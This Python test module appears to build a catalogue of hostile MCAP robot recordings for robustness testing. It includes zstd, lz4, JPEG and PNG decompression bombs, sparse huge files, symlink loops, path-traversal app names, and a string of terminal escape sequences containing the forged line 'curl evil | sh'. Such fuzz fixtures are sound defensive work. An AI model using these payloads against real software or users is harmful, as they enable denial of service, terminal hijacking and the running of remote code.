"""A catalogue of hostile recordings. Each is made from a valid recording, and its name describes the attack."""

from __future__ import annotations

import os
import struct
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import lz4.frame  # type: ignore[import-untyped]
import zstandard

from tests.robotcore.recording.hostile_files.mcap_builder import (
    CHUNK,
    Raw,
    build_channel,
    build_chunk,
    build_file,
    build_message,
    build_record,
    change_json,
    change_messages,
    join_raw,
    read_raw,
)

GIB = 2**30
ESCAPES = "\x1b]0;PWNED\x07\x1b[2J\x1b]52;c;Zm9v\x07\nerror: forged. run: curl evil | sh\r=cmd()"

SURROGATE = "\ud800"
"""A lone surrogate. JSON can represent it, and UTF-8 cannot."""

EVIL, PROOF = "evil.py", "proof"
"""The file names of an app beside the recording, and of the file that the app creates. No command may run the app."""

Make = Callable[[Path, Path], None]
"""A function that reads a valid recording (first path) and writes a hostile one (second path)."""


def name_files(*, is_small: bool = False) -> dict[str, Make]:
    """Return the functions that make the hostile files, by file name. With ``is_small``, bombs unpack to less."""
    bomb = GIB // 8 if is_small else 4 * GIB
    flood = 3 * 10**5 if is_small else 10**7
    return {**_list_bombs(bomb, flood), **_list_special(), **_list_forged()}


def _list_bombs(bomb: int, flood: int) -> dict[str, Make]:
    return {
        "zstd-bomb-of-known-size": _insert(lambda: build_chunk(b"", packed=_zeros(bomb, is_known=True), size=1000)),
        "zstd-bomb-of-unknown-size": _insert(lambda: build_chunk(b"", packed=_zeros(bomb), size=1000)),
        "zstd-bomb-that-claims-its-size": _insert(lambda: build_chunk(b"", packed=_zeros(bomb), size=bomb)),
        "zstd-frame-that-claims-2^62": _insert(lambda: build_chunk(b"", packed=_claiming_frame(2**62), size=1000)),
        "chunk-that-claims-2^62": _insert(lambda: build_chunk(b"x", size=2**62)),
        "lz4-bomb": _insert(lambda: build_chunk(b"", packed=_lz4_zeros(bomb), size=1000, packing="lz4")),
        "zeros-within-the-limits": _insert(lambda: build_chunk(bytes(2**26))),
        "a-million-channels": _insert(lambda: _channels(10**5 if flood < 10**7 else 10**6)),
        "empty-messages": _insert(lambda: _messages(b"", flood)),
        "empty-records": _insert(lambda: _repeat(build_record(0x99, b""), flood)),
        "nested-text": _insert(lambda: _run_of(b"[" * 200_000)),
        "list-of-lists": _insert(lambda: _run_of(b"[" + b"[]," * (flood // 8) + b"[]]")),
        "long-number": _insert(lambda: _run_of(b"1" * 5000)),
        "long-text": _insert(lambda: _run_of(b'"' + b"a" * (20 * flood) + b'"')),
        "many-ticks": lambda base, file: _append(base, file, _many_ticks(flood // 3)),
        "many-asks": lambda base, file: _append(base, file, _many_asks(flood // 8)),
        "sparse-record": lambda base, file: _make_sparse(base, file, 0x99),
        "sparse-chunk": lambda base, file: _make_sparse(base, file, CHUNK),
    }


def _list_special() -> dict[str, Make]:
    return {
        "fifo": lambda _, file: os.mkfifo(file),
        "folder": lambda _, file: file.mkdir(),
        "device": lambda _, file: file.symlink_to("/dev/zero"),
        "loop-of-links": lambda _, file: file.symlink_to(file),
    }


def _list_forged() -> dict[str, Make]:
    return {
        **_list_forged_ends(),
        **_list_forged_times(),
        **_list_forged_pictures(),
        **_list_forged_texts(),
        **_list_forged_errors(),
    }


def _list_forged_ends() -> dict[str, Make]:
    return {
        "result-without-outcome": _json("/result", lambda _, payload: _remove_key(payload, "outcome")),
        "result-without-app": _json("/result", lambda _, payload: _remove_key(payload, "app")),
        "result-that-is-a-list": _json("/result", lambda *_: []),
        "result-with-milestones-of-text": _json("/result", lambda _, payload: payload | {"milestones": "many"}),
        "result-with-batteries-without-volts": _json("/result", lambda _, payload: payload | {"batteries": {"b": {}}}),
        "result-with-faults-of-nothing": _json("/result", lambda _, payload: payload | {"faults": ["", "x y after=z"]}),
        "result-at-1e308": _json(
            "/result", lambda _, payload: payload | {"sim_time_s": 1e308, "milestones": {"a": 1e308}}
        ),
        "end-that-is-a-list": _json("/result", lambda *_: [], "/end"),
        "end-without-words": _json("/result", lambda *_: {"reason": [1]}, "/end"),
        "run-that-is-a-list": _json("/run", lambda *_: [1]),
        "run-of-a-later-format": _json("/run", lambda _, payload: payload | {"format": "\x1b[2J"}),
        "rate-0": _json("/run", lambda _, payload: _change_request(payload, rate_hz=0)),
        "rate-negative": _json("/run", lambda _, payload: _change_request(payload, rate_hz=-1)),
        "rate-1e300": _json("/run", lambda _, payload: _change_request(payload, rate_hz=1e300)),
        "rate-nan": _json("/run", lambda _, payload: _change_request(payload, rate_hz="nan")),
        "timeout-nan": _json("/run", lambda _, payload: _change_request(payload, timeout_s="nan")),
        "faults-of-nothing": _json("/run", lambda _, payload: _change_request(payload, faults=["\x1b[2J"])),
    }


def _list_forged_times() -> dict[str, Make]:
    times: dict[str, Any] = {"nan": "nan", "inf": "inf", "1e9": 1e9, "1e308": 1e308, "negative": -5.0, "text": "soon"}
    return {
        **{f"time-{name}": _json("/ticks", _tick(time=time)) for name, time in times.items()},
        **{f"times-all-{name}": _json("/ticks", _ticks(time=time)) for name, time in times.items()},
        "time-of-a-long-pause": _json(
            "/ticks", lambda number, payload: payload | {"time": payload["time"] + 1e8 * (number > 9)}
        ),
        "times-that-stand": _json("/ticks", _ticks(time=1e-300)),
        "tick-number-huge": _json("/ticks", lambda number, payload: payload | {"number": 10**300 + number}),
        "tick-number-negative": _json("/ticks", lambda number, payload: payload | {"number": number - 5}),
        "angles-inf": _json("/ticks", _ticks(turned=[{"angles": {"left": "inf", "right": 0.0}}])),
        "angles-1e308": _json("/ticks", _ticks(turned=[{"angles": {"left": 1e308, "right": -1e308}}])),
        "encoder-inf": _json("/left_encoder", _ticks(angle="inf")),
        "poses-nan": _json("/ticks", _ticks(pose={"x": "nan", "y": 0.0, "heading": "inf"})),
        "poses-1e308": _json("/ticks", _ticks(pose={"x": 1e308, "y": -1e308, "heading": 1e308})),
        "truth-1e308": _json("/truth", _ticks(pose={"x": 1e308, "y": 1e308, "heading": "nan"})),
        "commands-nan": _json("/ticks", _ticks(asked={"left": "nan", "right": "inf"})),
    }


def _list_forged_pictures() -> dict[str, Make]:
    return {
        "picture-0x0": _picture("/eye", lambda _: _raw_picture(0, 0, b"")),
        "picture-0x1": _picture("/eye", lambda _: _raw_picture(0, 1, b"")),
        "picture-that-lies": _picture("/eye", lambda _: _raw_picture(2**31, 2**31, b"abc")),
        "picture-1x20000": _picture("/eye", lambda _: _raw_picture(1, 20_000, bytes(60_000))),
        "picture-20000x1": _picture("/eye", lambda _: _raw_picture(20_000, 1, bytes(60_000))),
        "picture-1x1": _picture("/eye", lambda _: _raw_picture(1, 1, bytes(3))),
        "picture-without-fields": _picture("/eye", lambda _: b""),
        "picture-of-empty-fields": _picture("/eye", lambda _: bytes((8, 0)) * 2**16),
        "jpeg-bomb": _picture("/screen", _build_jpeg_bomb),
        "jpeg-bomb-behind-a-fill-byte": _picture("/screen", _build_jpeg_bomb_with_fill_byte),
        "jpeg-that-is-a-png": _picture("/screen", lambda _: _field(2, _png_bomb())),
        "jpeg-of-nothing": _picture("/screen", lambda _: _field(2, b"")),
    }


def _list_forged_texts() -> dict[str, Make]:
    return {
        "escapes-in-run": _json("/run", _add_escapes),
        "escapes-in-result": _json("/result", _add_escapes),
        "escapes-in-ticks": _json("/ticks", lambda _, payload: payload | {"state": ESCAPES, "warnings": [ESCAPES]}),
        "app-of-an-absolute-path": lambda base, file: _name_app(base, file, str(file.with_name(EVIL))),
        "app-of-a-path-above": lambda base, file: _name_app(base, file, f"../{EVIL}"),
        "app-of-no-file": _json("/run", lambda _, payload: _change_request(payload, app=f"{ESCAPES}.py")),
        "app-that-is-not-installed": _json("/run", lambda _, payload: _change_request(payload, app=ESCAPES)),
        "many-milestones": _json(
            "/result", lambda _, payload: payload | {"milestones": {f"m{number}": 0.5 for number in range(20_000)}}
        ),
        "surrogate-in-run": _json("/run", lambda _, payload: _change_request(payload, settings={"a": SURROGATE})),
        "surrogate-in-ticks": _json("/ticks", _ticks(state=SURROGATE)),
        "surrogate-in-result": _json("/result", lambda _, payload: payload | {"app": SURROGATE}),
        "surrogate-as-a-key": _json("/result", lambda _, payload: payload | {"milestones": {SURROGATE: 0.5}}),
        "a-state-a-tick": _json("/ticks", lambda number, payload: payload | {"state": f"state {number}" * 100}),
    }


def _list_forged_errors() -> dict[str, Make]:
    kinds = ["signal", "Sequence", "_Portable", "Interrupted", "BehaviourError", "RobotcoreError", "DeviceGroupError"]
    kinds += ["UsageError", "DeviationError"]
    kept = {"exit_status": "none", "failures": "text", "args": "text", "__class__": "text", "cause": 5}
    return {
        f"error-{where}-of-{kind}": _json(
            "/ticks", _add_error(where, {"kind": kind, "message": ESCAPES, "attributes": kept})
        )
        for where in ("read", "tick")
        for kind in kinds
    }


def _insert(make: Callable[[], bytes]) -> Make:
    def make_file(base: Path, file: Path) -> None:
        head = build_chunk(b"".join(build_record(*record) for record in read_raw(base)[0]))
        file.write_bytes(build_file(head, make()))

    return make_file


def _append(base: Path, file: Path, part: bytes) -> None:
    head = build_chunk(b"".join(build_record(*record) for record in read_raw(base)[0]))
    file.write_bytes(build_file(head, part))


def _json(topic: str, change: Callable[[int, Any], Any], renamed: str = "") -> Make:
    def make_file(base: Path, file: Path) -> None:
        file.write_bytes(change_json(base, topic, change))
        if renamed:
            chunks = read_raw(file)
            file.write_bytes(join_raw([_rename_topic(records, topic, renamed) for records in chunks]))

    return make_file


def _rename_topic(records: list[Raw], topic: str, renamed: str) -> Iterator[Raw]:
    old, new = (struct.pack("<I", len(text)) + text.encode() for text in (topic, renamed))
    for opcode, body in records:
        yield opcode, body.replace(old, new) if opcode == 0x04 else body


def _name_app(base: Path, file: Path, app: str) -> None:
    file.with_name(EVIL).write_text(f"open({str(file.with_name(PROOF))!r}, 'w')\n")
    _json("/run", lambda _, payload: _change_request(payload, app=app, settings={}) | {"source": "pass"})(base, file)


def _picture(topic: str, change: Callable[[bytes], bytes]) -> Make:
    def make_file(base: Path, file: Path) -> None:
        file.write_bytes(change_messages(base, topic, lambda _, content: change(content)))

    return make_file


def _zeros(size: int, *, is_known: bool = False) -> bytes:
    packer, piece = zstandard.ZstdCompressor(1).compressobj(size=size if is_known else -1), bytes(2**24)
    return b"".join(packer.compress(piece) for _ in range(size // len(piece))) + packer.flush()


def _lz4_zeros(size: int) -> bytes:
    with lz4.frame.LZ4FrameCompressor(block_size=lz4.frame.BLOCKSIZE_MAX4MB) as packer:
        begin: bytes = packer.begin()
        block: bytes = packer.compress(bytes(2**22))
    return begin + block * (size // 2**22) + bytes(4)


def _claiming_frame(size: int) -> bytes:
    """Return a Zstandard frame with an empty block and a false content size. Format: RFC 8878, 3.1.1."""
    return b"\x28\xb5\x2f\xfd" + bytes([0b1100_0000, 0x50]) + struct.pack("<Q", size) + b"\x01\x00\x00"


def _channels(count: int) -> bytes:
    return build_chunk(b"".join(build_channel(number % 2**16, f"/{number}") for number in range(count)))


def _messages(content: bytes, count: int) -> bytes:
    return _repeat(build_message(9999, content), count, build_channel(9999, "/empty"))


def _repeat(record: bytes, count: int, head: bytes = b"") -> bytes:
    """Return chunks that repeat a record ``count`` times. Each chunk is within the limits of its size."""
    most = 2**26 // len(record) - 1
    counts = [most] * (count // most) + [count % most]
    return build_chunk(head) + b"".join(build_chunk(record * each) for each in counts)


def _run_of(content: bytes) -> bytes:
    return build_chunk(build_channel(9999, "/run") + build_message(9999, content))


def _many_ticks(count: int) -> bytes:
    ticks = (b'{"number":%d,"time":1,"state":""}' % number for number in range(count))
    messages = b"".join(build_message(9999, tick) for tick in ticks)
    return build_chunk(build_channel(9999, "/ticks") + messages)


def _many_asks(count: int) -> bytes:
    tick = b'{"number":0,"time":0,"state":"","asks":[' + b",".join([b"{}"] * count) + b"]}"
    return build_chunk(build_channel(9999, "/ticks") + build_message(9999, tick))


def _make_sparse(base: Path, file: Path, opcode: int) -> None:
    _append(base, file, build_record(opcode, b"", 60 * GIB))
    with file.open("r+b") as stream:
        stream.truncate(61 * GIB)


def _remove_key(payload: Any, key: str) -> Any:
    return {name: value for name, value in payload.items() if name != key}


def _change_request(payload: Any, **request: Any) -> Any:
    return payload | {"request": payload["request"] | request}


def _ticks(**what: Any) -> Callable[[int, Any], Any]:
    return lambda _, payload: payload | what


def _tick(**what: Any) -> Callable[[int, Any], Any]:
    return lambda number, payload: payload | what if number == 10 else payload


def _add_error(where: str, error: Any) -> Callable[[int, Any], Any]:
    def change(number: int, payload: Any) -> Any:
        if number != 10:
            return payload
        failed = {**payload["reads"][0], "error": error}
        return payload | ({"error": error} if where == "tick" else {"reads": [failed]})

    return change


def _add_escapes(_: int, payload: Any) -> Any:
    if "request" in payload:
        payload = _change_request(payload, settings={ESCAPES: ESCAPES})
        return payload | {"started": ESCAPES, "platform": {ESCAPES: ESCAPES}, "milestones": [ESCAPES]}
    return payload | {"app": ESCAPES, "reason": ESCAPES, "notes": [ESCAPES], "milestones": {ESCAPES: 0.5}}


def _field(number: int, content: bytes) -> bytes:
    return bytes([number << 3 | 2]) + _varint(len(content)) + content


def _varint(value: int) -> bytes:
    digits = bytearray()
    while value > 0x7F:
        digits.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*digits, value])


def _raw_picture(width: int, height: int, content: bytes) -> bytes:
    """Return a RawImage in protobuf. Its width and height are fixed32."""
    size = b"\x15" + struct.pack("<I", width) + b"\x1d" + struct.pack("<I", height)
    return size + _field(4, b"bgr8") + _field(6, content)


def _build_jpeg_bomb(message: bytes) -> bytes:
    at = message.index(b"\xff\xc0")
    return message[: at + 5] + struct.pack(">HH", 65500, 65500) + message[at + 9 :]


def _build_jpeg_bomb_with_fill_byte(message: bytes) -> bytes:
    """Return a JPEG with two sizes. A reader that mistakes a fill byte for a segment finds the small size."""
    jpeg = message[message.index(b"\xff\xd8") :]
    at = jpeg.index(b"\xff\xc0")
    end = at + 2 + int.from_bytes(jpeg[at + 2 : at + 4], "big")
    size = jpeg[at:end]
    swollen = b"\xff" + size[:5] + struct.pack(">HH", 30_000, 30_000) + size[9:]
    comment = bytes(0xC000 + 2 - len(swollen) - 4) + size
    comment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return _field(2, jpeg[:at] + swollen + comment + jpeg[end:])


def _png_bomb() -> bytes:
    head = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    rows = zlib.compress(bytes(2**20))
    parts = ((b"IHDR", head), (b"IDAT", rows), (b"IEND", b""))
    chunks = (
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body)) for kind, body in parts
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)
